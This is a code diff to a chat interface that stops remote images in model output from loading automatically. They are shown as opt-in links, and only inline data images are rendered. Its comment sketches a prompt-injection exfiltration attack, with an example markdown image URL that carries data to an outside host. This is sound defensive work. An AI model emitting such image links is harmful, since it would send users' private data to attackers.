@@ -86,8 +86,35 @@ function CodeBlock({ children }: { children?: ReactNode }) {
   );
 }
 
+/*
+ * Images in model output are never loaded by themselves: `![x](https://host/?data=…)` would make
+ * the browser send whatever the model was tricked into writing to any server. They show as a
+ * link the member can choose to open (the CSP's img-src would block the request anyway).
+ * Inline `data:` images fetch nothing and are shown.
+ */
+function BlockedImage({ src, alt }: { src?: string; alt?: string }) {
+  const { t } = useTranslation();
+  if (typeof src === 'string' && /^data:image\/(png|gif|jpeg|webp);/i.test(src)) {
+    return <img src={src} alt={alt ?? ''} />;
+  }
+  const label = alt ? t('chat.imageNamed', { name: alt }) : t('chat.image');
+  if (typeof src !== 'string' || !/^https?:\/\//i.test(src)) return <span>{label}</span>;
+  return (
+    <a
+      className="blocked-image"
+      href={src}
+      target="_blank"
+      rel="noreferrer noopener nofollow"
+      title={t('chat.imageBlocked', { url: src })}
+    >
+      {label}
+    </a>
+  );
+}
+
 const components: Components = {
   pre: ({ children }) => <CodeBlock>{children}</CodeBlock>,
+  img: ({ src, alt }) => <BlockedImage src={typeof src === 'string' ? src : undefined} alt={alt} />,
   table: ({ children }) => (
     <div className="table-wrap">
       <table>{children}</table>
